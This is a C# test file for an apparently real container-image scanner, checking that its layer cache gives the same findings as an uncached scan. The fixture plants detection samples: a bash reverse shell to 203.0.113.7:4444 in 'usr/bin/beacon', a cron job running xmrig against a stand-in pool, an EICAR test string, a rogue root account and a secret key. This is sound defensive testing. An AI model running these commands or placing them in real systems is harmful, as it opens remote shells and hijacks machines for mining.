using System.Collections.Immutable;
using Gabion.Model;
using Gabion.Model.Packages;
using Gabion.Readers.Code.Secrets;
using Gabion.Scan;
using Gabion.Scan.Images;
using Gabion.Scan.Images.Cache;
using Gabion.Sources;
using Gabion.Sources.Images;
using Gabion.Tests.Sources;

namespace Gabion.Tests.Images;

public sealed class LayerCacheTests : IDisposable
{
    private readonly TemporaryFolder _folder = new();

    /// <summary>Something of every fact that layers give.</summary>
    private static readonly MadeImage Image = new(
        MadeLayer.Gzip(MadeLayer.Of(
            "etc/", "etc/passwd=root:x:0:0::/:/bin/sh\ntoor:x:0:0::/:/bin/sh\n", "etc/os-release=ID=debian\nVERSION_ID=12\n",
            "var/lib/dpkg/status=Package: bash\nStatus: install ok installed\nArchitecture: amd64\nVersion: 5.1\nConffiles:\n /etc/bash.bashrc 89269e1298235f1b12b4c16e4065ad0d\n\n",
            "var/lib/dpkg/info/bash.list=/.\n/usr/bin/bash\n", "var/lib/dpkg/info/bash.md5sums=0123456789abcdef0123456789abcdef  usr/bin/bash\n",
            "usr/share/doc/bash/copyright=Format: https://www.debian.org/doc/packaging-manuals/copyright-format/1.0/\n\nFiles: *\nCopyright: x\nLicense: GPL-3+\n",
            "755:usr/bin/bash=#!x", "755:usr/bin/implant=x", "bin->usr/bin",
            $"opt/test.com={TestFile}", "755:usr/bin/beacon=#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n", "etc/cron.d/update=# each\n*/5 * * * * root /tmp/xmrig -o stratum+tcp://pool.example.com:3333\n")),
        MadeLayer.Gzip(MadeLayer.Of($"app/server.key={Key}", "etc/.wh.passwd=", "4755:app/su=x", "app/broken/package-lock.json={")));

    private static string Key => SecretSample.Expand(SecretDetectors.All.Single(detector => detector.Kind.Id == "age-secret-key").Examples[0], "image").Text;

    // In two pieces, so that this program does not bear the sign.
    private const string TestFile = @"X5O!P%@AP[4\PZX54(P^)7CC)7}$" + "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*";

    private LayerCache Cache => new(new CacheFolder(_folder.Path, 100, 1 << 20));

    public void Dispose() => _folder.Dispose();

    [Fact]
    public async Task The_findings_are_the_same_with_and_without_it()
    {
        var archive = MadeImage.Tar(Image.Layout());
        var without = await ScanAsync(archive, null);
        Assert.Equal(without, await ScanAsync(archive, Cache));
        Assert.Equal(without, await ScanAsync(archive, Cache));
        Assert.Contains(without, line => line.Contains("app/server.key", StringComparison.Ordinal));
        Assert.Contains(without, line => line.Contains("usr/bin/implant", StringComparison.Ordinal));
        Assert.Contains(without, line => line.Contains("opt/test.com", StringComparison.Ordinal) && line.Contains("EICAR", StringComparison.Ordinal));
        Assert.Single(without, line => line.StartsWith("GBN-CON-252 usr/bin/beacon:2 ", StringComparison.Ordinal));
        Assert.Single(without, line => line.StartsWith("GBN-CON-252 etc/cron.d/update:2 ", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_known_layer_is_not_read_again()
    {
        Assert.Equal(2, await ReadAsync(Image.Layout()));
        Assert.Equal(0, await ReadAsync(Image.Layout()));
    }

    [Fact]
    public async Task A_damaged_entry_is_written_anew()
    {
        await ReadAsync(Image.Layout());
        foreach (var entry in Directory.GetFiles(_folder.Path, "record-*"))
        {
            var bytes = await File.ReadAllBytesAsync(entry, TestContext.Current.CancellationToken);
            bytes[bytes.Length / 2] ^= 1;
            await File.WriteAllBytesAsync(entry, bytes, TestContext.Current.CancellationToken);
        }

        Assert.Equal(2, await ReadAsync(Image.Layout()));
        Assert.Equal(0, await ReadAsync(Image.Layout()));
    }

    [Fact]
    public async Task A_known_blob_that_is_named_as_something_else_is_not_taken_for_what_it_was()
    {
        await ReadAsync(Image.Layout());
        Image.MediaType = "application/x-unknown";
        try
        {
            Assert.Equal(2, await ReadAsync(Image.Layout()));
        }
        finally
        {
            Image.MediaType = "application/vnd.oci.image.layer.v1.tar";
        }
    }

    [Fact]
    public async Task Other_bytes_do_not_pass_for_a_known_diff_id()
    {
        await ReadAsync(Image.Layout());

        // The manifest names another blob beside the diff ids that are known.
        var clean = new MadeImage(MadeLayer.Gzip(MadeLayer.Of("srv/a=1")), MadeLayer.Gzip(MadeLayer.Of("srv/b=1")));
        var files = Image.Layout();
        var (config, known, manifest) = (Image.Config, clean.Config, files.FindIndex(file => file.Bytes.AsSpan().IndexOf("\"layers\":["u8) > 0));
        await ReadAsync(clean.Layout());
        var text = System.Text.Encoding.UTF8.GetString(files[manifest].Bytes).Replace($"sha256:{MadeImage.Hex(config)}\",\"size\":{config.Length}", $"sha256:{MadeImage.Hex(known)}\",\"size\":{known.Length}", StringComparison.Ordinal);
        var bytes = System.Text.Encoding.UTF8.GetBytes(text);
        var old = MadeImage.Hex(files[manifest].Bytes);
        MadeImage.Blob(files, bytes);
        MadeImage.Blob(files, known);
        var index = files.FindIndex(file => file.Path == "index.json");
        files[index] = ("index.json", System.Text.Encoding.UTF8.GetBytes(System.Text.Encoding.UTF8.GetString(files[index].Bytes).Replace(old, MadeImage.Hex(bytes), StringComparison.Ordinal)));
        var found = await ScanAsync(MadeImage.Tar(files), Cache);
        Assert.Equal(2, found.Count(line => line.Contains("GBN-CON-210", StringComparison.Ordinal)));
        Assert.Contains(found, line => line.Contains("app/server.key", StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_blob_that_was_changed_on_disk_is_found_all_the_same()
    {
        using var layout = new TemporaryFolder();
        var files = Image.Layout();
        foreach (var (path, bytes) in files)
        {
            layout.Write(path, "");
            await File.WriteAllBytesAsync(Path.Combine(layout.Path, path), bytes, TestContext.Current.CancellationToken);
        }

        Assert.DoesNotContain(await ScanAsync(layout.Path, Cache), line => line.Contains("GBN-CON-210", StringComparison.Ordinal));
        var blob = files.First(file => file.Bytes is [0x1f, 0x8b, ..]);
        blob.Bytes[9] ^= 1; // the system in gzip's header: nothing that is unpacked
        await File.WriteAllBytesAsync(Path.Combine(layout.Path, blob.Path), blob.Bytes, TestContext.Current.CancellationToken);
        Assert.Contains(await ScanAsync(layout.Path, Cache), line => line.Contains("GBN-CON-210", StringComparison.Ordinal));
    }

    [Fact]
    public void Every_part_of_a_package_is_kept()
    {
        var package = new Package
        {
            Type = "rpm",
            Namespace = "n",
            Name = "a",
            Version = "1",
            Architecture = "x",
            SourceName = "s",
            SourceVersion = "2",
            Module = "m",
            Licences = ["MIT"],
            Hashes = [new("sha256", "ab")],
            Supplier = "u",
            IsDistributionOwn = false,
            Scope = PackageScope.Transitive,
            IsDevelopment = true,
            Dependencies = ["d"],
            FoundAt = ["f"],
            Layer = new("sha256", "cd"),
            Line = 7,
            Files = [new("p", new("md5", "no hash"), true)],
            Qualifiers = ImmutableSortedDictionary<string, string>.Empty.Add("k", "v"),
            Cpes = [new("a", "v", "p", "1", "*", "*", "*", "*", "*", "*", "*")],
            ShippedBy = "b",
            Evidence = PackageEvidence.Inferred,
            Release = new() { Id = "debian", VersionId = "12", Like = ["l"] },
        };
        foreach (var property in typeof(Package).GetProperties().Where(property => property.SetMethod is not null))
        {
            Assert.False(Equals(property.GetValue(package), property.GetValue(new Package { Type = "", Name = "" })), $"{property.Name} is not set above");
        }

        var layer = new InspectedLayer(Reading, [new("f", new([new PackageSet(new("f"), "kind", PackageSetRole.Locked, [package])], []))]);
        var again = LayerRecordReader.Read(LayerRecordWriter.Write(layer)!, new NamedLayer())!;
        var read = Assert.IsType<PackageSet>(Assert.Single(Assert.Single(again.Files).Result.Facts));
        Assert.Equivalent(package, Assert.Single(read.Packages), strict: true);
        Assert.Equal(("kind", PackageSetRole.Locked), (read.Kind, read.Role));
    }

    [Fact]
    public async Task Broken_records_are_no_records()
    {
        await ReadAsync(Image.Layout());
        var random = new Random(3);
        var isReadable = 0;
        foreach (var entry in Directory.GetFiles(_folder.Path, "record-*"))
        {
            var bytes = (await File.ReadAllBytesAsync(entry, TestContext.Current.CancellationToken))[..^32];
            for (var i = 0; i < 2_000; i++)
            {
                var broken = bytes[..random.Next(1, bytes.Length)];
                broken[random.Next(broken.Length)] = (byte)random.Next(256);
                isReadable += LayerRecordReader.Read(broken, new NamedLayer()) is null ? 0 : 1;
            }
        }

        Assert.Equal(0, isReadable);
    }

    private static LayerReading Reading => new() { Content = new([], [], []), Gaps = [], DiffId = new NamedLayer().DiffId };

    private static async Task<List<string>> ScanAsync(byte[] archive, LayerCache? cache)
    {
        using var source = ImageTarget.OfStream(new MemoryStream(archive), out _)!;
        return await ScanAsync(source, cache);
    }

    private static async Task<List<string>> ScanAsync(string path, LayerCache? cache)
    {
        using var source = ImageTarget.OfPath(path, out _)!;
        return await ScanAsync(source, cache);
    }

    private static async Task<List<string>> ScanAsync(ImageSource source, LayerCache? cache)
    {
        var result = await new ImageScanner(TimeProvider.System, "test").ScanAsync(source, new() { Scan = new() { Target = "made", Layers = cache } }, TestContext.Current.CancellationToken);
        var report = Assert.IsType<ScanResult.Assessed>(result).Report;
        return
        [
            .. report.Findings.Select(finding => $"{finding.Rule.Id} {finding.Location} {finding.Location.Layer} {finding.Message} {finding.Fingerprint}"),
            .. report.Coverage.Gaps.Select(gap => gap.ToString()),
            .. report.Coverage.Assessed.Select(pair => $"{pair.Key} {pair.Value}"),
        ];
    }

    private async Task<int> ReadAsync(List<(string Path, byte[] Bytes)> layout)
    {
        using var source = ImageTarget.OfStream(new MemoryStream(MadeImage.Tar(layout)), out _)!;
        var opened = Assert.IsType<ImageResult.Opened>(await source.OpenAsync(ImageChoice.Only, TestContext.Current.CancellationToken));
        var analysis = new LayerAnalysis(new(searchesSecrets: true, wantsOwners: true), LayerLimits.Default, Cache);
        await analysis.ReadAsync(opened.Image, 1, TestContext.Current.CancellationToken);
        return analysis.Read;
    }

    private sealed class NamedLayer() : SourceLayer(null, new("sha256", new string('a', 64)))
    {
        public override Task<LayerReading> ReadAsync(ILayerVisitor visitor, LayerLimits limits, CancellationToken cancellationToken) => throw new NotSupportedException();
    }
}
